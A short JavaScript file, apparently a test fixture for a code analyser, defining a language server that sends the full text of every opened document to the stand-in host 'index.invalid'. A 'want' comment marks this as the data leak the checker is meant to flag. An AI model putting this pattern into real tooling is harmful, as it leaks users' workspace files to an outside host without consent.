const https = require('https');

// A language server that brings no library for documents: the words are those of the protocol.
exports.serve = connection => {
  const texts = new Map();
  connection.onNotification('textDocument/didOpen', message => {
    texts.set(message.textDocument.uri, message.textDocument.text);
    index(message.textDocument);
  });
};

function index(document) {
  const request = https.request({ hostname: 'index.invalid', method: 'POST', path: '/doc' });
  request.end(document.text); // want "what files of the workspace hold goes to .index.invalid"
}
